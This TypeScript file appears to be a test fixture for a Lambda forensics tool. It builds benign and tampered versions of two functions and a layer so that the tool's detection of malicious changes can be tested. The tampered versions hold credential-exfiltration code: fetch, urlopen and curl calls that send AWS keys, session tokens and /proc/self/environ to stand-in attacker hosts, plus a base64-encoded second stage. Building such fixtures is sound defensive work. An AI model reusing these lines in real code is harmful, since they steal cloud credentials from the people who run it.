import {createHash} from 'node:crypto'
import type {ArtifactSpec} from './evidence-case.js'
import {EXECUTABLE, FILE, buildZip, type ZipEntrySpec} from './zip-builder.js'

export const ACCOUNT = '111122223333'
export const REGION = 'us-east-1'
export const fnArn = (name: string): string => `arn:aws:lambda:${REGION}:${ACCOUNT}:function:${name}`
export const LAYER_ARN = `arn:aws:lambda:${REGION}:999988887777:layer:shared-deps`
export const PY_LAYER_ARN = `arn:aws:lambda:${REGION}:999988887777:layer:py-shim`

const b64sha = (b: Buffer): string => createHash('sha256').update(b).digest('base64')
/** A code package as a build tool writes it: each file deflated, with a Unix mode. */
export const packageZip = (files: Record<string, string>): Buffer =>
  buildZip(Object.entries(files).map(([name, data]): ZipEntrySpec => ({name, data, deflate: true, mode: name.endsWith('.sh') || !name.includes('.') ? EXECUTABLE : FILE})))

/** A base64 blob an attacker would ship: a second stage, encoded. */
export const STAGE_TWO = Buffer.from('import os,urllib.request;urllib.request.urlopen("http://198.51.100.23/x",data=str(dict(os.environ)).encode())\n'.repeat(2)).toString('base64')

/** Files shared by both versions of orders-api; lib/db.js has indicators of its own that must never be reported as new. */
const ORDERS_COMMON = {
  'lib/db.js': "const {execFile} = require('child_process')\nconst api = 'https://api.payments.example.com/v1'\nmodule.exports = {execFile, api}\n",
  'README.md': '# orders-api\n',
}

export const ORDERS_V1 = {
  ...ORDERS_COMMON,
  'index.js': "const pad = require('left-pad')\nexports.handler = async (event) => ({statusCode: 200, body: pad(String(event.id), 8)})\n",
  'package.json': '{"name": "orders-api", "dependencies": {"left-pad": "1.3.0"}}\n',
  'node_modules/left-pad/package.json': '{"name": "left-pad", "version": "1.3.0"}\n',
  'node_modules/left-pad/index.js': "module.exports = (s, n) => s.padStart(n, ' ')\n",
}

export const ORDERS_V2 = {
  ...ORDERS_COMMON,
  'index.js': [
    "const pad = require('left-pad')",
    `const cfg = "${STAGE_TWO}"`,
    "const dbPass = 'hunter2-db-password-9f3a' // hard-coded by the attacker's build",
    'exports.handler = async (event) => {',
    "  await fetch('https://telemetry.evil-cdn.ru/v1/collect', {method: 'POST', body: JSON.stringify({k: process.env.AWS_ACCESS_KEY_ID, s: process.env.AWS_SECRET_ACCESS_KEY, t: process.env.AWS_SESSION_TOKEN, cfg})})",
    "  return {statusCode: 200, body: pad(String(event.id), 8)}",
    '}',
    '',
  ].join('\n'),
  'package.json': '{"name": "orders-api", "dependencies": {"left-pad": "1.3.1"}}\n',
  'node_modules/left-pad/package.json': '{"name": "left-pad", "version": "1.3.1"}\n',
  'node_modules/left-pad/index.js': "module.exports = (s, n, c = ' ') => String(s).padStart(n, c)\n",
}

const REPORTS_COMMON = {
  'utils/helpers.py': "import subprocess\n\ndef gzip(path):\n    subprocess.run(['gzip', path])\n    return 'https://hooks.slack.com/services/T000/B000/reports'\n",
}

export const REPORTS_V1 = {
  ...REPORTS_COMMON,
  'app.py': "import boto3\n\ndef handler(event, context):\n    return boto3.client('s3').list_buckets()\n",
  'requirements.txt': 'requests==2.31.0\n',
  'requests/__version__.py': "__version__ = '2.31.0'\n",
}

export const REPORTS_V2 = {
  ...REPORTS_COMMON,
  'app.py': [
    'import boto3, json, os, urllib.request',
    `BLOB = '${STAGE_TWO}'`,
    '',
    'def handler(event, context):',
    "    urllib.request.urlopen('http://203.0.113.50:8443/u', data=json.dumps({'k': os.environ['AWS_SECRET_ACCESS_KEY'], 't': os.environ.get('AWS_SESSION_TOKEN')}).encode())",
    "    return boto3.client('s3').list_buckets()",
    '',
  ].join('\n'),
  'requirements.txt': 'requests==2.32.0\n',
  'requests/__version__.py': "__version__ = '2.32.0'\n",
}

export const LAYER_V1 = {'nodejs/node_modules/uuid/index.js': "module.exports = () => 'uuid'\n"}
export const LAYER_V2 = {
  ...LAYER_V1,
  'nodejs/node_modules/@aws-sdk/client-s3/index.js': "module.exports = require('/var/runtime/node_modules/@aws-sdk/client-s3'); fetch('https://collector.evil-cdn.ru/' + process.env.AWS_SESSION_TOKEN)\n",
  'extensions/telemetry': '#!/bin/sh\ncurl -s http://198.51.100.23/x -d "$(cat /proc/self/environ)"\n',
}
export const PY_LAYER_V1 = {'python/boto3/__init__.py': 'from botocore import *\n', 'python/json.py': 'dumps = str\n', 'python/shim_util.py': 'x = 1\n'}

/** The zips of a scenario, built once per call. */
export interface CodeScenario {
  specs: ArtifactSpec[]
  zips: Record<string, Buffer>
}

function functionSpec(name: string, version: string, runtime: string, zip: Buffer, layers: string[]): ArtifactSpec {
  const arn = version === '$LATEST' ? fnArn(name) : `${fnArn(name)}:${version}`
  return {
    segments: ['lambda', REGION, name, 'versions', version, 'function.json'],
    kind: 'lambda.function',
    body: JSON.stringify({Configuration: {FunctionName: name, FunctionArn: arn, Version: version, Runtime: runtime, Handler: 'index.handler', CodeSha256: b64sha(zip), CodeSize: zip.length, PackageType: 'Zip', Layers: layers.map((Arn) => ({Arn})), Environment: {Variables: {DB_PASSWORD: 'hunter2-db-password-9f3a'}}}}),
    contentType: 'application/json',
    source: arn,
  }
}

function codeSpec(name: string, version: string, zip: Buffer): ArtifactSpec {
  return {
    segments: ['lambda', REGION, name, 'versions', version, 'code.zip'],
    kind: 'lambda.code',
    body: zip,
    contentType: 'application/zip',
    source: `${fnArn(name)}:${version}`,
    attributes: {functionName: name, version, codeSha256: b64sha(zip), verified: true},
  }
}

function layerSpec(arn: string, version: number, zip: Buffer): ArtifactSpec {
  return {
    segments: ['lambda', REGION, 'layers', arn.split(':').at(-1)!, String(version), 'content.zip'],
    kind: 'lambda.layer-code',
    body: zip,
    contentType: 'application/zip',
    source: `${arn}:${version}`,
    attributes: {layerName: arn.split(':').at(-1), version, codeSha256: b64sha(zip), verified: true},
  }
}

/**
 * Two functions with two versions each, as `collect lambda --all-versions` stores them: orders-api
 * (Node.js) and reports-job (Python), whose version 2 adds an outbound call with the credential
 * variables, a base64 blob and a changed dependency; $LATEST equals version 2 and shares its
 * package (stored once, under $LATEST). Version 2 of each runs a layer that overrides the runtime.
 */
export function codeScenario(): CodeScenario {
  const z = {
    o1: packageZip(ORDERS_V1), o2: packageZip(ORDERS_V2), r1: packageZip(REPORTS_V1), r2: packageZip(REPORTS_V2),
    l1: packageZip(LAYER_V1), l2: packageZip(LAYER_V2), p1: packageZip(PY_LAYER_V1),
  }
  const specs: ArtifactSpec[] = [
    functionSpec('orders-api', '1', 'nodejs20.x', z.o1, []),
    functionSpec('orders-api', '2', 'nodejs20.x', z.o2, [`${LAYER_ARN}:2`]),
    functionSpec('orders-api', '$LATEST', 'nodejs20.x', z.o2, [`${LAYER_ARN}:2`]),
    codeSpec('orders-api', '1', z.o1),
    codeSpec('orders-api', '$LATEST', z.o2),
    functionSpec('reports-job', '1', 'python3.12', z.r1, []),
    functionSpec('reports-job', '2', 'python3.12', z.r2, [`${PY_LAYER_ARN}:1`]),
    codeSpec('reports-job', '1', z.r1),
    codeSpec('reports-job', '2', z.r2),
    layerSpec(LAYER_ARN, 1, z.l1),
    layerSpec(LAYER_ARN, 2, z.l2),
    layerSpec(PY_LAYER_ARN, 1, z.p1),
  ]
  return {specs, zips: z}
}
